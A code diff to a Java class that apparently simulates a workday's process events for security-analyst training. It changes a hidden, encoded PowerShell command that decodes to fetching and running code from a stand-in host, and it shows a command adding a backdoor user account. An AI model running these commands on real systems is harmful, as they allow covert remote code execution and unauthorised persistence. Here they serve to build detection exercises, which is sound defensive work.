@@ -130,7 +130,7 @@ public final class CompanyDay {
             at(9, 14, 9),
             word,
             POWERSHELL,
-            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA");
+            "powershell.exe -nop -w hidden -enc aQByAG0AIAB4AC4AZQB4AGEAbQBwAGwAZQB8AGkAZQB4AA==");
     DayHost.Process cmd =
         anna.start(
             at(9, 14, 41), shell, CMD, "cmd.exe /c net user Supp0rt LetsDefendEventLogs /add");
